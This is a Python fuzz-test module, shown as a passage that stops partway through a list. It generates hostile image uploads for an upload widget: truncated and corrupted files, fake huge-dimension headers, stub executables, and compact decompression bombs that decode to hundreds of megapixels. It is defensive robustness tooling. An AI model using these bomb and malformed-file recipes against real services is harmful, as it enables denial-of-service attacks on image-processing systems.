"""Hostile upload files for the fuzz tests: what a careless or malicious student might upload.

``hostile_files(seed)`` builds, in memory and in about a second, well over a thousand distinct
files (bytes, a short label, the family it belongs to and the file name it would be uploaded
as). Every name ends in one of ``cnnviz.images.UPLOAD_EXTENSIONS``, because the browser's file
picker only lets such names through: a hostile file arrives *renamed* ("photo.jpg"), never as
"bomb.svg".

Families (see ``FAMILIES``): random bytes, allowed magic numbers followed by garbage, valid
images truncated or corrupted, empty-ish files, headers claiming huge dimensions, decompression
bombs, odd colour modes and shapes, animations and multi-page files, SVG (with an XML bomb and
an external entity), executables, scripts and HTML, archives and documents, pickles, and
polyglots. Each file is small (the largest is a few hundred kilobytes) even where it decodes to
hundreds of megapixels.
"""

from __future__ import annotations

import gzip
import io
import pickle
import random
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from PIL import Image

FAMILIES = (
    "random bytes",
    "magic then garbage",
    "truncated",
    "corrupt",
    "empty",
    "huge dimensions",
    "decompression bomb",
    "odd mode",
    "odd shape",
    "animation or pages",
    "svg",
    "executable",
    "script or html",
    "archive or document",
    "pickle",
    "polyglot",
)


@dataclass(frozen=True)
class HostileFile:
    """One file as it would reach the upload widget."""

    family: str  # one of FAMILIES
    label: str  # what it is, for test ids and failure messages
    filename: str  # the name it is uploaded as (an allowed image extension)
    data: bytes

    def __repr__(self) -> str:  # short, for pytest ids and assertion messages
        return f"<{self.family}: {self.label} as {self.filename}, {len(self.data)} bytes>"


# ---------------------------------------------------------------------------------------------
# Building blocks: encoders and hand-written headers
# ---------------------------------------------------------------------------------------------


def encode(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def noise(width: int, height: int, mode: str = "RGB", seed: int = 0) -> Image.Image:
    """Random pixels in an 8-bit mode ("RGB", "L", "RGBA", "CMYK", ...)."""
    rng = np.random.default_rng(seed)
    bands = len(mode)
    shape = (height, width) if bands == 1 else (height, width, bands)
    return Image.fromarray(rng.integers(0, 256, shape, dtype=np.uint8), mode=mode)


def png_chunk(kind: bytes, payload: bytes, crc: int | None = None) -> bytes:
    crc = zlib.crc32(kind + payload) if crc is None else crc
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc & 0xFFFFFFFF)


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png(width: int, height: int, *, bit_depth: int = 8, colour_type: int = 0, raw: bytes | None = None,
        idat: bytes | None = None, extra: tuple[bytes, ...] = (), interlace: int = 0) -> bytes:
    """A PNG from its parts. ``raw`` is the filtered scanlines (zeros when None)."""
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, interlace)
    if idat is None:
        idat = zlib.compress(raw if raw is not None else b"\x00" * 64)
    return (PNG_SIGNATURE + png_chunk(b"IHDR", header) + b"".join(extra)
            + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))


def zeros_deflate(total: int, chunk: int) -> bytes:
    """A valid zlib stream of ``total`` zero bytes, built in milliseconds.

    Compressing hundreds of megabytes of zeros takes a second; instead one ``chunk`` of zeros
    is compressed and full-flushed (which resets the compressor), so its compressed block can
    be repeated; the Adler-32 of n zeros is simply (n mod 65521) << 16 | 1.
    """
    assert total % chunk == 0
    compressor = zlib.compressobj(9)
    first = compressor.compress(b"\x00" * chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(b"\x00" * chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert first[2:] == repeated  # the same block once the 2-byte zlib header is off
    final = compressor.flush()[:-4]  # the empty last block, without the (wrong) checksum
    adler = ((total % 65521) << 16) | 1
    return first[:2] + repeated * (total // chunk) + final + struct.pack(">I", adler)


def png_bomb(width: int, height: int, colour_type: int = 0) -> bytes:
    """A genuine, fully decodable all-black PNG of width x height; a few hundred KB at most."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[colour_type]
    row = 1 + width * channels  # the filter byte, then the pixels
    rows_per_chunk = next(n for n in range(max(1, (1 << 20) // row), 0, -1) if height % n == 0)
    return png(width, height, colour_type=colour_type,
               idat=zeros_deflate(row * height, row * rows_per_chunk))


def tiff(entries: list[tuple[int, int, list[int]]], pixel_data: bytes = b"", *, big_endian: bool = False) -> bytes:
    """A one-page TIFF from (tag, type, values) entries; StripOffsets (273) may be given as
    [-1] to point at ``pixel_data``. Types: 3 SHORT, 4 LONG, 11 FLOAT."""
    order = ">" if big_endian else "<"
    formats = {3: "H", 4: "I", 11: "f", 16: "Q"}
    sizes = {3: 2, 4: 4, 11: 4, 16: 8}
    entries = sorted(entries)
    ifd_offset = 8
    ifd_size = 2 + 12 * len(entries) + 4
    extra_offset = ifd_offset + ifd_size
    extra = b""
    data_offset_placeholder = []
    packed_entries = b""
    for tag, kind, values in entries:
        payload = struct.pack(order + formats[kind] * len(values), *[v if v != -1 else 0 for v in values])
        if tag == 273 and values == [-1]:
            data_offset_placeholder.append(2 + len(packed_entries) + 8)  # after the entry count
        if len(payload) <= 4:
            field = payload.ljust(4, b"\x00")
        else:
            field = struct.pack(order + "I", extra_offset + len(extra))
            extra += payload
        packed_entries += struct.pack(order + "HHI", tag, kind, len(values)) + field
    data_offset = extra_offset + len(extra)
    body = bytearray(struct.pack(order + "H", len(entries)) + packed_entries + struct.pack(order + "I", 0))
    for position in data_offset_placeholder:
        body[position : position + 4] = struct.pack(order + "I", data_offset)
    head = (b"MM\x00*" if big_endian else b"II*\x00") + struct.pack(order + "I", ifd_offset)
    return head + bytes(body) + extra + pixel_data


def gray_tiff(width: int, height: int, *, compression: int = 1, data: bytes | None = None,
              more: list[tuple[int, int, list[int]]] = ()) -> bytes:
    """An 8-bit grayscale TIFF with one strip (uncompressed zeros unless ``data`` is given)."""
    data = bytes(width * height) if data is None else data
    entries = [
        (256, 4, [width]), (257, 4, [height]), (258, 3, [8]), (259, 3, [compression]),
        (262, 3, [1]), (273, 4, [-1]), (277, 3, [1]), (278, 4, [height]), (279, 4, [len(data)]),
    ]
    tags = {tag for tag, _, _ in more}
    entries = [entry for entry in entries if entry[0] not in tags] + list(more)
    return tiff(entries, data)


def gif_descriptor_offset(data: bytes) -> int:
    """Offset of the first image descriptor (0x2C) in a GIF: after the header, the global
    colour table and any extensions."""
    position = 13
    if data[10] & 0x80:
        position += 3 * (2 << (data[10] & 7))
    while data[position] == 0x21:  # extension: label, then sub-blocks until a zero length
        position += 2
        while data[position]:
            position += data[position] + 1
        position += 1
    assert data[position] == 0x2C
    return position


def jpeg_sof_offset(data: bytes) -> int:
    """Offset of the first SOFn marker (baseline, extended or progressive) in a JPEG."""
    for marker in (b"\xff\xc0", b"\xff\xc1", b"\xff\xc2"):
        found = data.find(marker)
        if found > 0:
            return found
    raise AssertionError("no SOF marker")


def riff_webp(*chunks: bytes) -> bytes:
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def riff_chunk(kind: bytes, payload: bytes) -> bytes:
    return kind + struct.pack("<I", len(payload)) + payload + (b"\x00" if len(payload) % 2 else b"")


def vp8x(width: int, height: int, flags: int = 0) -> bytes:
    """A WebP extended-format header chunk claiming a width x height canvas (1..2**24 each)."""
    payload = struct.pack("<I", flags) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return riff_chunk(b"VP8X", payload)


def exif_with_orientation(orientation: int) -> bytes:
    """A little-endian EXIF block holding only the Orientation tag (may be out of range)."""
    ifd = struct.pack("<H", 1) + struct.pack("<HHIHH", 0x0112, 3, 1, orientation & 0xFFFF, 0) + struct.pack("<I", 0)
    return b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 8) + ifd


def bmp_patch(data: bytes, **fields: int) -> bytes:
    """Overwrite BITMAPINFOHEADER fields of a BMP (little-endian, signed where the format is)."""
    layout = {"width": (18, "<i"), "height": (22, "<i"), "planes": (26, "<H"), "bits": (28, "<H"),
              "compression": (30, "<I"), "colours": (46, "<I"), "offset": (10, "<I"), "header": (14, "<I")}
    patched = bytearray(data)
    for name, value in fields.items():
        offset, fmt = layout[name]
        patched[offset : offset + struct.calcsize(fmt)] = struct.pack(fmt, value)
    return bytes(patched)


def zip_of(entries: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive with fixed timestamps, so the same entries always give the same bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data, compression)
    return buffer.getvalue()


def small_elf() -> bytes:
    """A minimal x86-64 ELF header (the magic a renamed Linux program starts with)."""
    ident = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    header = struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 132, 132, 0x1000)
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # exit(0)
    return ident + header + program + code


def windows_exe() -> bytes:
    """A DOS/PE header, as in a Windows program renamed photo.jpg."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64))
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    return bytes(dos) + pe + stub + b"\x00" * 200


# ---------------------------------------------------------------------------------------------
# Families
# ---------------------------------------------------------------------------------------------

# Valid images the decoder accepts, as the starting point for truncation and corruption.
def valid_images() -> dict[str, tuple[bytes, str]]:
    """name -> (bytes, extension) for one small valid file per allowed format and variant."""
    photo = noise(40, 30, seed=1)
    gray = noise(33, 17, "L", seed=2)
    frames = [noise(20, 16, seed=s) for s in range(3)]
    return {
        "png rgb": (encode(photo, "PNG"), "png"),
        "png palette": (encode(photo.convert("P"), "PNG"), "png"),
        "png 16-bit": (encode(Image.fromarray(np.arange(33 * 17, dtype=np.uint16).reshape(17, 33) * 100), "PNG"), "png"),
        "jpeg baseline": (encode(photo, "JPEG", quality=90), "jpg"),
        "jpeg progressive": (encode(photo, "JPEG", progressive=True), "jpg"),
        "jpeg gray": (encode(gray, "JPEG"), "jpeg"),
        "jpeg cmyk": (encode(noise(24, 24, "CMYK"), "JPEG"), "jpg"),
        "gif": (encode(photo.convert("P"), "GIF"), "gif"),
        "gif animated": (encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=50), "gif"),
        "bmp rgb": (encode(photo, "BMP"), "bmp"),
        "bmp palette": (encode(photo.convert("P"), "BMP"), "bmp"),
        "tiff raw": (encode(photo, "TIFF"), "tif"),
        "tiff lzw": (encode(photo, "TIFF", compression="tiff_lzw"), "tiff"),
        "tiff deflate": (encode(gray, "TIFF", compression="tiff_adobe_deflate"), "tiff"),
        "tiff jpeg": (encode(photo, "TIFF", compression="jpeg"), "tif"),
        "tiff packbits": (encode(gray, "TIFF", compression="packbits"), "tif"),
        "webp lossy": (encode(photo, "WEBP", quality=80), "webp"),
        "webp lossless": (encode(photo, "WEBP", lossless=True), "webp"),
        "webp alpha": (encode(noise(24, 20, "RGBA"), "WEBP"), "webp"),
        "webp animated": (encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=50), "webp"),
        "mpo": (encode(frames[0], "MPO", save_all=True, append_images=frames[1:2]), "mpo"),
    }


def random_bytes(rng: random.Random) -> list[HostileFile]:
    lengths = list(range(1, 65)) + [rng.randrange(65, 70_000) for _ in range(56)]
    extensions = ("jpg", "png", "gif", "webp", "bmp", "tif")
    return [
        HostileFile("random bytes", f"{n} random bytes", f"random-{i}.{extensions[i % 6]}", rng.randbytes(n))
        for i, n in enumerate(lengths)
    ]


MAGICS = {
    "png": PNG_SIGNATURE,
    "jpg": b"\xff\xd8\xff\xe0",
    "gif": b"GIF89a",
    "gif87": b"GIF87a",
    "bmp": b"BM",
    "tif": b"II*\x00",
    "tiff": b"MM\x00*",
    "bigtiff": b"II+\x00\x08\x00\x00\x00",
    "webp": b"RIFF\x00\x10\x00\x00WEBPVP8 ",
    "webpx": b"RIFF\x00\x10\x00\x00WEBPVP8X",
    "mpo": b"\xff\xd8\xff\xe1",
}


def magic_then_garbage(rng: random.Random) -> list[HostileFile]:
    files = []
    for name, magic in MAGICS.items():
        extension = {"gif87": "gif", "bigtiff": "tif", "webpx": "webp"}.get(name, name)
        for n in (0, 1, 4, 12, 30, 100, 500, 3000, 20_000):
            files.append(HostileFile("magic then garbage", f"{name} magic + {n} random bytes",
                                     f"magic-{name}-{n}.{extension}", magic + rng.randbytes(n)))
        # A plausible header then zeros, and the magic repeated.
        files.append(HostileFile("magic then garbage", f"{name} magic + zeros", f"zeros-{name}.{extension}",
                                 magic + bytes(2000)))
        files.append(HostileFile("magic then garbage", f"{name} magic x 500", f"repeat-{name}.{extension}",
                                 magic * 500))
    return files


def truncated(valid: dict[str, tuple[bytes, str]], rng: random.Random) -> list[HostileFile]:
    files = []
    for name, (data, extension) in valid.items():
        n = len(data)
        cuts = {1, 2, 4, 8, 12, 16, 24, 33, 50, 64, 100, n // 4, n // 3, n // 2, 2 * n // 3, 3 * n // 4,
                n - 64, n - 16, n - 2, n - 1}
        cuts |= {rng.randrange(1, n) for _ in range(6)}
        for cut in sorted(c for c in cuts if 0 < c < n):
            files.append(HostileFile("truncated", f"{name} cut at byte {cut} of {n}", f"cut-{cut}.{extension}",
                                     data[:cut]))
    return files


def corrupt(valid: dict[str, tuple[bytes, str]], rng: random.Random) -> list[HostileFile]:
    files = []
    for name, (data, extension) in valid.items():
        n = len(data)
        variants = []
        for flips in (1, 1, 1, 2, 3, 5, 8, 20, 100):  # random bytes overwritten
            mutated = bytearray(data)
            for _ in range(flips):
                mutated[rng.randrange(n)] = rng.randrange(256)
            variants.append((f"{flips} random bytes changed", bytes(mutated)))
        for position in (8, 12, 16, 20, 24, 30):  # the header region, where the sizes live
            mutated = bytearray(data)
            mutated[position : position + 4] = b"\xff\xff\xff\xff"
            variants.append((f"bytes {position}-{position + 3} set to 0xff", bytes(mutated)))
        for bit in range(4):  # single bit flips in the first 64 bytes
            mutated = bytearray(data)
            index = rng.randrange(min(64, n))
            mutated[index] ^= 1 << rng.randrange(8)
            variants.append((f"bit flipped at byte {index} (#{bit})", bytes(mutated)))
        start = rng.randrange(n // 4, n // 2)
        variants.append(("a zeroed middle", data[:start] + bytes(n // 4) + data[start + n // 4 :]))
        variants.append(("a random middle", data[:start] + rng.randbytes(n // 4) + data[start + n // 4 :]))
        variants.append(("the second half repeated", data + data[n // 2 :]))
        variants.append(("garbage inserted after the header", data[:40] + rng.randbytes(64) + data[40:]))
        variants.append(("the header doubled", data[:32] + data))
        variants.append(("every byte inverted after the magic", data[:8] + bytes(255 - b for b in data[8:])))
        for index, (what, mutated) in enumerate(variants):
            files.append(HostileFile("corrupt", f"{name}: {what}", f"corrupt-{index}.{extension}", mutated))
    # Structural damage that random flips rarely hit.
    photo = encode(noise(16, 16), "PNG")
    structural = [
        ("png with a bad CRC", photo[:29] + b"\x00\x00\x00\x00" + photo[33:], "png"),
        ("png chunk length 2**32-1", photo[:33] + b"\xff\xff\xff\xff" + photo[37:], "png"),
        ("png without IDAT", PNG_SIGNATURE + photo[8:33] + png_chunk(b"IEND", b""), "png"),
        ("png without IEND", photo[:-12], "png"),
        ("png with an unknown critical chunk", photo[:33] + png_chunk(b"ABCD", b"x" * 10) + photo[33:], "png"),
        ("png bit depth 3", png(4, 4, bit_depth=3), "png"),
        ("png colour type 7", png(4, 4, colour_type=7), "png"),
        ("png 16-bit palette", png(4, 4, bit_depth=16, colour_type=3), "png"),
        ("png compression method 1", photo[:16] + photo[16:26] + b"\x01" + photo[27:], "png"),
        ("png interlace method 2", png(4, 4, interlace=2), "png"),
        ("png IDAT that is not zlib", png(4, 4, idat=b"not zlib at all"), "png"),
        ("png IDAT too short", png(64, 64, raw=b"\x00" * 10), "png"),
        ("png rows with filter type 9", png(4, 4, raw=b"\x09\x00\x00\x00\x00" * 4), "png"),
        ("png palette image without PLTE", png(4, 4, colour_type=3, raw=b"\x00" * 20), "png"),
        ("png PLTE of 300 entries", png(4, 4, colour_type=3, raw=b"\x00" * 20,
                                        extra=(png_chunk(b"PLTE", b"\x01" * 900),)), "png"),
        ("png tRNS longer than the palette", png(2, 2, colour_type=3, raw=b"\x00" * 6,
                                                 extra=(png_chunk(b"PLTE", b"\x01" * 6),
                                                        png_chunk(b"tRNS", b"\x00" * 50))), "png"),
        ("png with a broken eXIf", photo[:33] + png_chunk(b"eXIf", b"MM\x00*\xff\xff\xff\xff") + photo[33:], "png"),
        ("png with a broken iCCP", photo[:33] + png_chunk(b"iCCP", b"icc\x00\x00" + b"garbage") + photo[33:], "png"),
        ("jpeg SOF with 0 components", _patch_sof(encode(noise(16, 16), "JPEG"), components=0), "jpg"),
        ("jpeg SOF with 255 components", _patch_sof(encode(noise(16, 16), "JPEG"), components=255), "jpg"),
        ("jpeg SOF with 12-bit precision", _patch_sof(encode(noise(16, 16), "JPEG"), precision=12), "jpg"),
        ("jpeg lossless SOF3", _swap_sof(encode(noise(16, 16), "JPEG"), b"\xff\xc3"), "jpg"),
        ("jpeg arithmetic SOF9", _swap_sof(encode(noise(16, 16), "JPEG"), b"\xff\xc9"), "jpg"),
        ("jpeg without scan data", encode(noise(16, 16), "JPEG").split(b"\xff\xda")[0] + b"\xff\xd9", "jpg"),
        ("jpeg of only SOI and EOI", b"\xff\xd8\xff\xd9", "jpg"),
        ("jpeg with a bad Huffman table", _corrupt_marker(encode(noise(16, 16), "JPEG"), b"\xff\xc4"), "jpg"),
        ("jpeg with a bad quantisation table", _corrupt_marker(encode(noise(16, 16), "JPEG"), b"\xff\xdb"), "jpg"),
        ("jpeg with a broken EXIF", _with_app1(encode(noise(16, 16), "JPEG"), b"Exif\x00\x00MM\x00*\xff\xff\xff\xff"), "jpg"),
        ("jpeg EXIF orientation 0", _with_app1(encode(noise(16, 12), "JPEG"), exif_with_orientation(0)), "jpg"),
        ("jpeg EXIF orientation 9", _with_app1(encode(noise(16, 12), "JPEG"), exif_with_orientation(9)), "jpg"),
        ("jpeg EXIF orientation 65535", _with_app1(encode(noise(16, 12), "JPEG"), exif_with_orientation(65535)), "jpg"),
        ("jpeg with a broken MPO index", _with_app2_mpf(encode(noise(16, 16), "JPEG")), "jpg"),
        ("gif LZW code size 12", _patch_gif_code_size(encode(noise(8, 8).convert("P"), "GIF"), 12), "gif"),
        ("gif LZW code size 0", _patch_gif_code_size(encode(noise(8, 8).convert("P"), "GIF"), 0), "gif"),
        ("gif without trailer", encode(noise(8, 8).convert("P"), "GIF")[:-1], "gif"),
        ("gif of header only", b"GIF89a\x08\x00\x08\x00\x00\x00\x00;", "gif"),
        ("bmp with 64 bits per pixel", bmp_patch(encode(noise(8, 8), "BMP"), bits=64), "bmp"),
        ("bmp with 0 bits per pixel", bmp_patch(encode(noise(8, 8), "BMP"), bits=0), "bmp"),
        ("bmp compression 99", bmp_patch(encode(noise(8, 8), "BMP"), compression=99), "bmp"),
        ("bmp RLE8 on 24-bit", bmp_patch(encode(noise(8, 8), "BMP"), compression=1), "bmp"),
        ("bmp palette of 2**31 colours", bmp_patch(encode(noise(8, 8).convert("P"), "BMP"), colours=2**31), "bmp"),
        ("bmp pixel offset past the end", bmp_patch(encode(noise(8, 8), "BMP"), offset=2**31), "bmp"),
        ("bmp header size 7", bmp_patch(encode(noise(8, 8), "BMP"), header=7), "bmp"),
        ("bmp header size 2**31", bmp_patch(encode(noise(8, 8), "BMP"), header=2**31), "bmp"),
        ("bmp RLE8 that runs off the image", _bmp_rle8(8, 8, b"\xff\x01" * 200 + b"\x00\x01"), "bmp"),
        ("bmp RLE8 delta far away", _bmp_rle8(8, 8, b"\x00\x02\xff\xff" * 4 + b"\x00\x01"), "bmp"),
        ("tiff strip offset past the end", gray_tiff(8, 8, more=[(273, 4, [10**9])]), "tif"),
        ("tiff strip byte count 2**32-1", gray_tiff(8, 8, more=[(279, 4, [2**32 - 1])]), "tif"),
        ("tiff 12 bits per sample", gray_tiff(8, 8, more=[(258, 3, [12])]), "tif"),
        ("tiff 100 samples per pixel", gray_tiff(8, 8, more=[(277, 3, [100])]), "tif"),
        ("tiff photometric 99", gray_tiff(8, 8, more=[(262, 3, [99])]), "tif"),
        ("tiff compression 99", gray_tiff(8, 8, compression=99), "tif"),
        ("tiff LZW of garbage", gray_tiff(8, 8, compression=5, data=rng.randbytes(40)), "tif"),
        ("tiff deflate of garbage", gray_tiff(8, 8, compression=8, data=rng.randbytes(40)), "tif"),
        ("tiff JPEG of garbage", gray_tiff(8, 8, compression=7, data=rng.randbytes(40)), "tif"),
        ("tiff rows per strip 0", gray_tiff(8, 8, more=[(278, 4, [0])]), "tif"),
        ("tiff tile 65536 x 65536 on an 8 x 8 image",
         gray_tiff(8, 8, more=[(322, 4, [65536]), (323, 4, [65536]), (324, 4, [-1]), (325, 4, [64])]), "tif"),
        ("tiff IFD pointing at itself", _tiff_loop(), "tif"),
        ("tiff IFD with 65535 entries claimed", b"II*\x00\x08\x00\x00\x00\xff\xff" + bytes(100), "tif"),
        ("tiff IFD offset past the end", b"II*\x00\xff\xff\xff\x7f" + bytes(100), "tif"),
        ("webp chunk size 2**32-1", b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff" + bytes(64), "webp"),
        ("webp VP8X with no image", riff_webp(vp8x(16, 16)), "webp"),
        ("webp VP8L of garbage", riff_webp(riff_chunk(b"VP8L", b"\x2f" + rng.randbytes(40))), "webp"),
        ("webp ANIM without frames", riff_webp(vp8x(16, 16, flags=0x02), riff_chunk(b"ANIM", bytes(6))), "webp"),
    ]
    files += [HostileFile("corrupt", label, f"damaged-{i}.{ext}", data) for i, (label, data, ext) in enumerate(structural)]
    return files


def _patch_sof(data: bytes, *, components: int | None = None, precision: int | None = None) -> bytes:
    sof = jpeg_sof_offset(data)
    patched = bytearray(data)
    if precision is not None:
        patched[sof + 4] = precision
    if components is not None:
        patched[sof + 9] = components
    return bytes(patched)


def _swap_sof(data: bytes, marker: bytes) -> bytes:
    sof = jpeg_sof_offset(data)
    return data[:sof] + marker + data[sof + 2 :]


def _corrupt_marker(data: bytes, marker: bytes) -> bytes:
    at = data.find(marker)
    return data[: at + 5] + b"\xff" * 20 + data[at + 25 :]


def _with_app1(data: bytes, payload: bytes) -> bytes:
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload + data[2:]


def _with_app2_mpf(data: bytes) -> bytes:
    """An MPF (multi-picture) segment whose index claims 1000 frames at absurd offsets."""
    entries = struct.pack(">H", 3) + struct.pack(">HHII", 0xB000, 7, 4, 0x30313030)
    entries += struct.pack(">HHII", 0xB001, 4, 1, 1000) + struct.pack(">HHII", 0xB002, 7, 16000, 50)
    payload = b"MPF\x00" + b"MM\x00*" + struct.pack(">I", 8) + entries + struct.pack(">I", 0) + b"\xff" * 64
    return data[:2] + b"\xff\xe2" + struct.pack(">H", len(payload) + 2) + payload + data[2:]


def _patch_gif_code_size(data: bytes, size: int) -> bytes:
    at = gif_descriptor_offset(data) + 10
    if data[at - 1] & 0x80:  # skip a local colour table
        at += 3 * (2 << (data[at - 1] & 7))
    return data[:at] + bytes([size]) + data[at + 1 :]


def _bmp_rle8(width: int, height: int, pixels: bytes) -> bytes:
    base = encode(Image.new("P", (width, height)), "BMP")
    offset = struct.unpack("<I", base[10:14])[0]
    data = bytearray(base[:offset] + pixels)
    data[2:6] = struct.pack("<I", len(data))
    return bmp_patch(bytes(data), compression=1)


def _tiff_loop() -> bytes:
    """Two IFDs, each naming the other as the next page: an endless page chain."""
    page = gray_tiff(4, 4)
    # The first IFD's "next IFD" field points back at the first IFD (offset 8).
    count = struct.unpack("<H", page[8:10])[0]
    next_field = 8 + 2 + 12 * count
    return page[:next_field] + struct.pack("<I", 8) + page[next_field + 4 :]


def empty_files() -> list[HostileFile]:
    contents = [("zero bytes", b"", "jpg"), ("zero bytes", b"", "png"), ("zero bytes", b"", "gif"),
                ("zero bytes", b"", "webp"), ("zero bytes", b"", "tiff"), ("zero bytes", b"", "bmp"),
                ("one NUL byte", b"\x00", "png"), ("one space", b" ", "jpg"), ("one newline", b"\n", "png"),
                ("4096 NUL bytes", bytes(4096), "jpg"), ("4096 0xff bytes", b"\xff" * 4096, "jpg"),
                ("a UTF-8 byte-order mark", b"\xef\xbb\xbf", "png"), ("whitespace only", b" \t\r\n" * 50, "gif")]
    return [HostileFile("empty", label, f"empty-{i}.{ext}", data) for i, (label, data, ext) in enumerate(contents)]


def huge_dimensions() -> list[HostileFile]:
    files = []
    sizes = [(100_000, 100_000), (2**31 - 1, 1), (1, 2**31 - 1), (2**31 - 1, 2**31 - 1), (65535, 65535),
             (0, 0), (0, 10), (10, 0), (2**32 - 1, 2**32 - 1), (2**31, 2**31), (7000, 6000), (40_000_001, 1),
             (50_000, 1_000)]
    for width, height in sizes:
        files.append(HostileFile("huge dimensions", f"png claiming {width} x {height}", f"huge-{width}x{height}.png",
                                 png(width, height)))
        files.append(HostileFile("huge dimensions", f"rgba png claiming {width} x {height}",
                                 f"huge-rgba-{width}x{height}.png", png(width, height, colour_type=6, bit_depth=16)))
    small_gif = encode(noise(8, 8).convert("P"), "GIF")
    descriptor = gif_descriptor_offset(small_gif)
    for width, height in [(65535, 65535), (0, 0), (30000, 20000), (7000, 6000)]:
        screen = small_gif[:6] + struct.pack("<HH", width, height) + small_gif[10:]
        files.append(HostileFile("huge dimensions", f"gif screen claiming {width} x {height}",
                                 f"huge-screen-{width}x{height}.gif", screen))
        frame = bytearray(small_gif)
        frame[descriptor + 5 : descriptor + 9] = struct.pack("<HH", width, height)
        files.append(HostileFile("huge dimensions", f"gif 8 x 8 screen, frame claiming {width} x {height}",
                                 f"huge-frame-{width}x{height}.gif", bytes(frame)))
        offset = bytearray(small_gif)
        offset[descriptor + 1 : descriptor + 5] = struct.pack("<HH", width, height)
        files.append(HostileFile("huge dimensions", f"gif frame placed at {width}, {height}",
                                 f"huge-offset-{width}x{height}.gif", bytes(offset)))
    small_bmp = encode(noise(8, 8), "BMP")
    for width, height in [(100_000, 100_000), (2**31 - 1, 2**31 - 1), (-8, 8), (8, -8), (-(2**31), -(2**31)),
                          (8, 2**31 - 1), (0, 8), (7000, 6000), (50_000_000, 1)]:
        files.append(HostileFile("huge dimensions", f"bmp claiming {width} x {height}",
                                 f"huge-{width}x{height}.bmp", bmp_patch(small_bmp, width=width, height=height)))
    small_jpeg = encode(noise(16, 16), "JPEG")
    sof = jpeg_sof_offset(small_jpeg)
    for width, height in [(65535, 65535), (0, 16), (16, 0), (0, 0), (7000, 6000), (65535, 1)]:
        patched = small_jpeg[: sof + 5] + struct.pack(">HH", height, width) + small_jpeg[sof + 9 :]
        files.append(HostileFile("huge dimensions", f"jpeg SOF claiming {width} x {height}",
                                 f"huge-{width}x{height}.jpg", patched))
    for width, height in [(100_000, 100_000), (2**32 - 1, 2**32 - 1), (0, 0), (7000, 6000), (2**31, 1)]:
        files.append(HostileFile("huge dimensions", f"tiff claiming {width} x {height}",
                                 f"huge-{width}x{height}.tif", gray_tiff(width, height, data=bytes(64))))
    small_webp = encode(noise(16, 16), "WEBP")
    for width, height in [(2**24, 2**24), (16384, 16384), (7000, 6000), (1, 2**24)]:
        files.append(HostileFile("huge dimensions", f"webp VP8X canvas claiming {width} x {height}",
                                 f"huge-{width}x{height}.webp",
                                 riff_webp(vp8x(width, height), small_webp[12:])))
    lossy = bytearray(small_webp)
    vp8 = lossy.find(b"VP8 ")
    lossy[vp8 + 14 : vp8 + 18] = struct.pack("<HH", 16383, 16383)  # 14-bit width and height
    files.append(HostileFile("huge dimensions", "webp VP8 frame claiming 16383 x 16383", "huge-vp8.webp", bytes(lossy)))
    return files


def decompression_bombs() -> list[HostileFile]:
    """Small files that decode to huge images: refused ones and ones just under the limit."""
    files = [
        HostileFile("decompression bomb", "png 20000 x 20000 of zeros (400 MP)", "bomb-400mp.png", png_bomb(20000, 20000)),
        HostileFile("decompression bomb", "png 10000 x 10000 of zeros (100 MP)", "bomb-100mp.png", png_bomb(10000, 10000)),
        HostileFile("decompression bomb", "png 7000 x 6000 of zeros (42 MP)", "bomb-42mp.png", png_bomb(7000, 6000)),
        # Just under the 40-megapixel limit: these decode for real, so they must stay bounded.
        HostileFile("decompression bomb", "png 6000 x 6600 grayscale of zeros (39.6 MP)", "bomb-39mp.png",
                    png_bomb(6000, 6600)),
        HostileFile("decompression bomb", "png 5000 x 7000 RGBA of zeros (35 MP)", "bomb-35mp-rgba.png",
                    png_bomb(5000, 7000, colour_type=6)),
        HostileFile("decompression bomb", "png 16-bit 6000 x 6000 of zeros (36 MP)", "bomb-36mp-16bit.png",
                    png(6000, 6000, bit_depth=16, idat=zeros_deflate(6000 * 12001, 12001 * 80))),
        HostileFile("decompression bomb", "tiff 6000 x 6000 deflate of zeros (36 MP)", "bomb-36mp.tif",
                    gray_tiff(6000, 6000, compression=8, data=zeros_deflate(36_000_000, 1_000_000))),
        HostileFile("decompression bomb", "tiff 30000 x 30000 deflate of zeros (900 MP)", "bomb-900mp.tif",
                    gray_tiff(30000, 30000, compression=8, data=zeros_deflate(900_000_000, 1_000_000))),
        HostileFile("decompression bomb", "png zTXt chunk inflating to 64 MB", "bomb-ztxt.png",
                    png(8, 8, raw=b"\x00" * 72,
                        extra=(png_chunk(b"zTXt", b"Comment\x00\x00" + zeros_deflate(64 << 20, 1 << 20)),))),
